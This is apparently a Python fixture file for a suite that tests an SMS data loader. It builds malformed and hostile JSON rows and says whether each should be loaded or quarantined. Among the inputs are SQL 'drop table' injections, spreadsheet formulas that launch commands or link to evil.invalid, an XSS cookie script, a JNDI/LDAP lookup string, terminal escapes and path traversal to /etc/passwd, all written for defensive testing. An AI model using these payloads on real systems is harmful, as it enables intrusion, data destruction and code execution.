"""The table of poisoned rows: how each is poisoned, and what is to become of it.

A row is right, unusual, or bad. An unusual one is loaded as it is, and nobody is called; a bad one waits in
quarantine. For a few either is right, as long as the row does not disappear and no other suffers.
"""

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from decimal import Decimal
from enum import Enum
from typing import Any

from sms_etl_tests.attacks.stand_in import Row, written


class Fate(Enum):
    """What is to become of a row."""

    LOADED = "loaded"
    BAD = "in quarantine"
    EITHER = "loaded or in quarantine"


Poison = Callable[[Row], tuple[bytes, ...]]
"""Turns a good row into what is shown in its place."""


@dataclass(frozen=True)
class RowCase:
    """One way to poison a row."""

    name: str
    poison: Poison
    fate: Fate = Fate.BAD
    stored: Mapping[str, Any] = field(default_factory=dict)
    """Of a row that is loaded: columns that differ from those of the good row."""
    path: str = "/sms"
    is_alone: bool = False
    """Whether it is tied to its place on a page, or would weigh on the others."""
    place: int = 0
    """How far from the middle, where that matters."""


def literals_of(row: Row) -> dict[str, bytes]:
    """Return a row's fields, each with its JSON."""
    return {name: written({"_": value}).removeprefix(b'{"_":')[:-1] for name, value in row.items()}


def joined(fields: Mapping[str, bytes]) -> bytes:
    """Write an object of fields that need not be JSON."""
    return (
        b"{" + b",".join(b"%b:%b" % (json.dumps(name).encode(), text) for name, text in fields.items()) + b"}"
    )


def literal(name: str, text: bytes) -> Poison:
    """Let a field's value be these bytes."""
    return lambda row: (joined(literals_of(row) | {name: text}),)


def without(name: str) -> Poison:
    """Leave a field out."""

    def poison(row: Row) -> tuple[bytes, ...]:
        return (joined({key: text for key, text in literals_of(row).items() if key != name}),)

    return poison


def also(text: bytes) -> Poison:
    """Put these bytes in as further fields, before the known ones."""
    return lambda row: (b"{" + text + b"," + joined(literals_of(row))[1:],)


def finally_also(text: bytes) -> Poison:
    """Put these bytes in as further fields, behind the known ones."""
    return lambda row: (joined(literals_of(row))[:-1] + b"," + text + b"}",)


def whole(text: bytes) -> Poison:
    """Show these bytes in place of the row."""
    return lambda _row: (text,)


TEXT_VALUE = b'"surprise4917612345678"'
INTEGER = {
    "a text": TEXT_VALUE,
    "digits as text": b'"1717"',
    "a fraction": b"17.25",
    "true": b"true",
    "an array": b"[4917612345678]",
    "an object": b'{"inner": "surprise4917612345678"}',
    "2^70": b"1180591620717411303424",
    "minus 2^70": b"-1180591620717411303424",
    "NaN": b"NaN",
    "-Infinity": b"-Infinity",
    "007": b"0071717",
    "+1": b"+1717",
    "0x10": b"0x1717",
    "five thousand digits": b"9" * 5000,
}
TIME = {
    "negative": b"-17691700",
    "milliseconds": b"1769860800000",
    "microseconds": b"1769860800000000",
    "an ISO text": b'"2026-01-31T11:30:00+00:00"',
    "1e9999": b"1e9999",
}
TEXT = {
    "a number": b"4917612345678",
    "true": b"true",
    "an array": b'["surprise4917612345678"]',
    "an object": b'{"inner": "surprise4917612345678"}',
    "a raw control character": b'"surprise\x01tail"',
    "a raw line break": b'"surprise\ntail"',
    "a bad escape": rb'"surprise\xtail"',
    "a cut unicode escape": rb'"surprise\u12"',
}
BOOLEAN = {
    "0": b"0",
    "1": b"1",
    "a text": b'"true4917612345678"',
    "an array": b"[4917612345678]",
    "an object": b'{"inner": "surprise4917612345678"}',
    "True": b"True",
}
NEGATIVE = {"negative": b"-1717"}
BEYOND_32_BITS = {"beyond 32 bits": b"2147483648"}
BEYOND_64_BITS = {"beyond 64 bits": b"9223372036854775808"}
BEYOND_16_BITS = {"beyond 16 bits": b"32768"}
UNBOUND = {name: text for name, text in INTEGER.items() if name != "a fraction"}

WRONG: Mapping[str, Mapping[str, bytes]] = {
    "created_at": INTEGER | TIME | {"0": b"0", "null": b"null", "the year 9999": b"253402300799"},
    "delivery_at": INTEGER | TIME,
    "gateway_sent_at": INTEGER | TIME,
    "status_code": INTEGER | BEYOND_32_BITS,
    "dlr_code": INTEGER | BEYOND_32_BITS,
    "parts_count": INTEGER | NEGATIVE | BEYOND_32_BITS,
    "chars_count": INTEGER | NEGATIVE | BEYOND_32_BITS,
    "attempts_count_max": INTEGER | NEGATIVE | BEYOND_16_BITS,
    "key_id": INTEGER | BEYOND_64_BITS,
    "source": INTEGER | BEYOND_64_BITS,
    "is_sent": BOOLEAN,
    "is_text_deleted": BOOLEAN,
    "is_unicode": BOOLEAN,
    "price": UNBOUND
    | NEGATIVE
    | {
        "as text": b'"0.056"',
        "with a decimal comma": b'"0,056"',
        "with its currency": b'"0.056 EUR"',
        "seven decimals": b"0.1234567",
        "thirteen digits": b"1234567890123",
        "1e400": b"1e400",
        "a hair below zero": b"-0.000001",
        "007.5": b"007.5",
        ".5": b".5171",
        "5.": b"5171.",
        "with thousands": b"1,717.00",
        "Infinity": b"Infinity",
    },
    "uuid": TEXT
    | {
        "null": b"null",
        "empty": b'""',
        "a word": TEXT_VALUE,
        "one digit short": b'"0191ab12-7f10-11ef-8000-0000000000a"',
        "in braces": b'"{0191ab12-7f10-11ef-8000-0000000000aa}"',
        "with a blank": b'"0191ab12-7f10-11ef-8000-0000000000aa "',
        "SQL": b'"\' or 1=1; drop table raw.sms; --"',
        "a path": b'"../../../../etc/passwd"',
    },
    "iso2": TEXT | {"three letters": b'"DEU"', "digits": b'"49"', "a formula": b'"=1+1"', "HTML": b'"<b>"'},
    "bulk_id": TEXT | {"a word": TEXT_VALUE, "SQL": b'"\'; drop table raw.bulk; --"'},
    "phone": TEXT
    | {"words": b'"Anna Mustermann"', "a formula": b"\"=cmd|' /C calc'!A0\"", "only a plus": b'"+"'},
    "text": TEXT,
    "sender_id": TEXT,
    "service_code": TEXT,
    "voice_lang": TEXT,
    "callback_data": TEXT,
    "ip": TEXT,
}
"""By field of the reference: what it must not be."""

NULLABLE = tuple(name for name in WRONG if name not in {"uuid", "created_at"})

INJECTIONS = {
    "SQL": b'"\'; drop table raw.sms; --"',
    "a formula": rb'"=HYPERLINK(\"http://evil.invalid\",\"invoice\")"',
    "HTML": b'"<script>alert(document.cookie)</script>"',
    "a terminal escape": rb'"\u001b[2J\u001b]0;owned\u0007"',
    "a right-to-left override": rb'"\u202egpj.exe"',
    "a null byte": rb'"nul\u0000byte"',
    "markup of the terminal": b'"[red]owned[/red][/]"',
    "a template": b'"{{ 7 * 7 }}{% raw %}${jndi:ldap://evil.invalid}"',
    "half a character": rb'"cut \ud83d"',
    "100 KB": b'"' + b"z" * 100_000 + b'"',
}
INJECTED = ("text", "sender_id", "service_code", "voice_lang", "callback_data", "ip")

_PRICES = {
    "twelve digits": (b"999999999999", "999999999999"),
    "twelve digits and six decimals": (b"999999999999.999999", "999999999999.999999"),
    "a millionth": (b"0.000001", "0.000001"),
    "1e-400": (b"1e-400", "0"),
    "minus zero": (b"-0.0", "0"),
    "binary noise": (b"0.21000000000000002", "0.21"),
    "an exponent": (b"5.6E-2", "0.056"),
    "zeros behind": (b"0.0560000000000000000000000", "0.056"),
}


def _wrong() -> list[RowCase]:
    return [
        RowCase(f"{name}: {kind}", literal(name, text))
        for name, kinds in WRONG.items()
        for kind, text in kinds.items()
    ]


def _absent() -> list[RowCase]:
    return [
        *(RowCase(f"{name}: missing", without(name)) for name in ("uuid", "created_at")),
        *(RowCase(f"{name}: missing", without(name), Fate.LOADED, {name: None}) for name in NULLABLE),
        *(RowCase(f"{name}: null", literal(name, b"null"), Fate.LOADED, {name: None}) for name in NULLABLE),
    ]


def _injected() -> list[RowCase]:
    return [
        RowCase(
            f"{name}: {kind}",
            literal(name, text),
            Fate.LOADED,
            {name: _read(text)},
        )
        for name in INJECTED
        for kind, text in INJECTIONS.items()
    ]


def _read(text: bytes) -> str:
    """Read a text; half a character is shown as what stands for an unreadable one."""
    read: str = json.loads(text)
    return read.encode("utf-16", "surrogatepass").decode("utf-16", "replace") if "\ud83d" in read else read


def _unusual() -> list[RowCase]:
    loaded = Fate.LOADED
    return [
        *(
            RowCase(f"price: {kind}", literal("price", text), loaded, {"price": Decimal(stored)})
            for kind, (text, stored) in _PRICES.items()
        ),
        RowCase("status_code: unknown", literal("status_code", b"4711"), loaded, {"status_code": 4711}),
        RowCase("dlr_code: unknown", literal("dlr_code", b"-32"), loaded, {"dlr_code": -32}),
        RowCase("source: 64 bits", literal("source", b"-9223372036854775808"), loaded, {"source": -(2**63)}),
        RowCase("iso2: empty", literal("iso2", b'""'), loaded, {"iso2": None}),
        RowCase("iso2: lower case", literal("iso2", b'"ch"'), loaded, {"iso2": "CH"}),
        RowCase("iso2: no country of this world", literal("iso2", b'"QQ"'), loaded, {"iso2": "QQ"}),
        RowCase("text: empty", literal("text", b'""'), loaded, {"text": ""}),
        RowCase("text: only emoji", literal("text", '"🍎🍏👩‍👩‍👧"'.encode()), loaded, {"text": "🍎🍏👩‍👩‍👧"}),
        RowCase(
            "text: a megabyte",
            literal("text", b'"' + b"lorem " * 170_000 + b'"'),
            loaded,
            {"text": "lorem " * 170_000},
        ),
        RowCase("text: invalid UTF-8", literal("text", b'"caf\xe9 \xff\xfe"'), Fate.EITHER),
        RowCase("service_code: invalid UTF-8", literal("service_code", b'"dir\xc3\x28ect"'), Fate.EITHER),
        RowCase("sender_id: invalid UTF-8", literal("sender_id", b'"\xed\xa0\x80"'), Fate.EITHER),
        RowCase(
            "delivery_at: the year 9999",
            literal("delivery_at", b"253402300799"),
            loaded,
            {"delivery_at": datetime(9999, 12, 31, 23, 59, 59)},
        ),
        RowCase("uuid: in capitals", lambda row: (_upper(row),), loaded),
        RowCase("uuid: escaped letter by letter", lambda row: (_escaped(row),), loaded),
    ]


def _upper(row: Row) -> bytes:
    return written(row | {"uuid": row["uuid"].upper()})


def _escaped(row: Row) -> bytes:
    escapes = "".join(f"\\u{ord(character):04x}" for character in row["uuid"])
    return joined(literals_of(row) | {"uuid": f'"{escapes}"'.encode()})


_COLUMNS_OF_OURS = (
    b'"phone_hash":"deadbeef","phone_masked":"+49","gone_at":"2020-01-01T00:00:00","currency":"USD",'
    b'"first_seen_at":"2020-01-01","bad_reason":"none","is_gone":true,"extra":{"a":1},"is_rounded":true'
)


def _unknown() -> list[RowCase]:
    loaded, either = Fate.LOADED, Fate.EITHER
    return [
        RowCase("unknown field: 1 KB", also(b'"new_field":"' + b"y" * 1024 + b'"'), loaded),
        RowCase("unknown field: 16 KB", also(b'"new_field":"' + b"y" * 16_384 + b'"'), either),
        RowCase("unknown field: 5 MB", also(b'"new_field":"' + b"y" * 5_000_000 + b'"'), either),
        RowCase(
            "unknown field: 5 MB behind the others",
            finally_also(b'"new_field":[' + b"1," * 2_500_000 + b"1]"),
            either,
        ),
        RowCase(
            "unknown field: a thousand of them",
            also(b",".join(b'"new_%d":%d' % (n, n) for n in range(1000))),
            either,
        ),
        RowCase("unknown field: a name of 10 KB", also(b'"' + b"n" * 10_240 + b'":1'), either),
        RowCase("unknown field: without a name", also(b'"":1'), loaded),
        RowCase("unknown field: a name as SQL", also(b'"a\'; drop table raw.sms; --":1'), loaded),
        RowCase("unknown field: a name as HTML", also(b'"<script>alert(1)</script>":1'), loaded),
        RowCase("unknown field: a name as a terminal escape", also(rb'"\u001b[2J":1'), loaded),
        RowCase("unknown field: a name with a null byte", also(rb'"nul\u0000byte":1'), loaded),
        RowCase("unknown field: names of our own columns", also(_COLUMNS_OF_OURS), loaded),
        RowCase(
            "unknown field: known names in capitals", also(b'"UUID":"x","Price":5,"Created_At":1'), loaded
        ),
        RowCase("unknown field: nested 100 deep", also(b'"new_field":' + b"[" * 100 + b"]" * 100), either),
        RowCase("unknown field: nested 990 deep", also(b'"new_field":' + b"[" * 990 + b"]" * 990), either),
        RowCase(
            "unknown field: nested 100,000 deep",
            also(b'"new_field":' + b"[" * 100_000 + b"]" * 100_000),
            either,
        ),
        RowCase(
            "unknown field: objects 990 deep",
            also(b'"new_field":' + b'{"a":' * 990 + b"1" + b"}" * 990),
            either,
        ),
        RowCase("unknown field: NaN", also(b'"new_field":NaN'), either),
        RowCase("unknown field: 1e400", also(b'"new_field":1e400'), either),
        RowCase("unknown field: a raw control character", also(b'"new_field":"a\x02b"'), either),
        RowCase("unknown field: half a character", also(rb'"new_field":"\ud83d"'), either),
        RowCase("unknown field: brackets within a text", also(rb'"new_field":"]}\\\"{[,"'), loaded),
        RowCase("price: there twice", finally_also(b'"price":17.5'), either),
        RowCase("uuid: there twice", also(b'"uuid":"0191ab12-7f10-11ef-8000-ffffffffffff"'), either),
        RowCase("created_at: there twice", finally_also(b'"created_at":17'), either),
    ]


def _no_objects() -> list[RowCase]:
    texts = {
        "null": b"null",
        "true": b"true",
        "a number": b"4917612345678",
        "a text": TEXT_VALUE,
        "an empty array": b"[]",
        "an empty object": b"{}",
        "an array of rows": b'[{"uuid":"0191ab12-7f10-11ef-8000-ffffffffffff","created_at":1769860000}]',
        "a text with brackets": rb'"]},{[\"4917612345678\"]"',
        "NaN": b"NaN",
        "a bare word": b"undefined",
        "a row within a row": b'{"row":{"uuid":"0191ab12-7f10-11ef-8000-ffffffffffff"}}',
        "nested 100,000 deep": b"[" * 100_000 + b"]" * 100_000,
    }
    return [RowCase(f"no row: {kind}", whole(text)) for kind, text in texts.items()]


def _moved_by(seconds: int) -> Poison:
    return lambda row: (written(row | {"created_at": row["created_at"] + seconds}),)


def _twice_with(**changed: Any) -> Poison:
    return lambda row: (written(row), written(row | changed))


def _neighbours(row: Row) -> tuple[bytes, ...]:
    return (written(row | {"uuid": f"{row['uuid'][:-12]}{int(row['uuid'][-12:], 16) + 1:012x}"}),)


def _out_of_place() -> list[RowCase]:
    either = Fate.EITHER
    return [
        RowCase("created_at: a day before the window asked for", _moved_by(-86_400 * 30)),
        RowCase("created_at: in the future", _moved_by(86_400)),
        RowCase("created_at: in 1970", literal("created_at", b"1")),
        RowCase("created_at: another second of the window", _moved_by(7), either),
        RowCase("a row twice in its second", _twice_with(), either),
        RowCase("a row twice in its second, with another price", _twice_with(price=Decimal("1.5")), either),
        RowCase("a row twice in its second, once bad", _twice_with(price="free"), either),
        RowCase("a row five times in its second", lambda row: (written(row),) * 5, either),
        RowCase("a row twice, across pages", _twice_with(), either, is_alone=True, place=-1),
        RowCase("a row twice, another time", _twice_with(dlr_code=1, created_at=1), either),
        RowCase("the uuid of its neighbour", _neighbours, either, is_alone=True),
    ]


def _broken_apart() -> list[RowCase]:
    """Return rows that are cut wrong; those behind which no row can be found are among the pages."""

    def no_comma(row: Row) -> tuple[bytes, ...]:
        return (written(row).replace(b',"iso2"', b' "iso2"'),)

    huge = b'"new_field":"' + b"y" * (17 * 1024 * 1024) + b'"'
    return [
        RowCase("without a comma between two fields", no_comma),
        RowCase("without any byte", whole(b""), Fate.EITHER, is_alone=True),
        RowCase("of 17 MiB", also(huge), is_alone=True),
    ]


def _bulks() -> list[RowCase]:
    wrong = {
        "uuid": {"null": b"null", "a word": TEXT_VALUE},
        "created_at": {
            "milliseconds": b"1769860800000",
            "a text": TEXT_VALUE,
            "2^70": b"1180591620717411303424",
        },
        "processed_at": {"milliseconds": b"1769860800000", "a text": TEXT_VALUE},
        "msg_total_count": {
            "negative": b"-17",
            "a fraction": b"17.25",
            "beyond 64 bits": b"9223372036854775808",
        },
        "msg_total_cost": {"negative": b"-17.5", "as text": b'"17.5"', "007.5": b"007.5", "1e400": b"1e400"},
        "is_dryrun": {"a text": TEXT_VALUE},
        "service_code": {
            "an object": b'{"inner":"surprise4917612345678"}',
            "a bad escape": rb'"surprise\xtail"',
        },
    }
    return [
        *(
            RowCase(f"bulk, {name}: {kind}", literal(name, text), path="/bulks")
            for name, kinds in wrong.items()
            for kind, text in kinds.items()
        ),
        RowCase("bulk: an empty object", whole(b"{}"), path="/bulks"),
        RowCase(
            "bulk, unknown field: 5 MB",
            also(b'"new":"' + b"y" * 5_000_000 + b'"'),
            Fate.EITHER,
            path="/bulks",
        ),
    ]


ROWS: tuple[RowCase, ...] = (
    *_wrong(),
    *_absent(),
    *_injected(),
    *_unusual(),
    *_unknown(),
    *_no_objects(),
    *_out_of_place(),
    *_broken_apart(),
    *_bulks(),
)
BY_NAME = {case.name: case for case in ROWS}
